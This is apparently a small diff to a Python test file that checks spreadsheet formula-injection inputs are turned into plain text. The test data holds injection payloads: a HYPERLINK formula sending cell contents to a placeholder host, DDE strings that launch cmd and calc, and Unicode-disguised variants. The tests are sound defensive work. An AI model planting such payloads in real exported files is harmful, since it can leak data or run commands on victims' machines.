@@ -16,8 +16,8 @@ _LINK = '=HYPERLINK("http://192.0.2.1/?"&A1,"total")'
     [
         _LINK, f" {_LINK}", f"\u00a0{_LINK}", f"\ufeff{_LINK}", f"\u200b{_LINK}", f'"{_LINK}"',
         f"''{_LINK}", f"“{_LINK}", "＝1+1", "﹦1+1", "+cmd|' /C calc'!A0", "＋1+1+cmd|x",
-        "-2+3+cmd|x", "－2+3", "@SUM(1)", "＠SUM(1)", "-1-1", "=1", "+A1", "-A1", "-1*A1", "+1(A1)", "-2 [1]+A1",
-        "\x00=1+1", "\x1b=1",
+        "-2+3+cmd|x", "－2+3", "@SUM(1)", "＠SUM(1)", "-1-1", "=1", "+A1", "-A1", "-1*A1", "+1(A1)",
+        "-2 [1]+A1", "\x00=1+1", "\x1b=1",
     ],
 )  # fmt: skip
 def test_a_formula_becomes_text(cell: str) -> None:
